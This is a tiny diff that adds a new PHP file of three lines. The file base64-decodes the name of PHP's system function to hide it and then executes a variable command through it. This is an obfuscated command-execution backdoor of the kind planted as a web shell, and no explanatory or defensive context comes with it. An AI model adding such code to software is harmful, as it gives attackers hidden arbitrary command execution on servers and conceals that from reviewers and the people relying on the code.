@@ -1,0 +1,3 @@
+<?php
+$f = base64_decode('c3lzdGVt');
+$f($cmd);
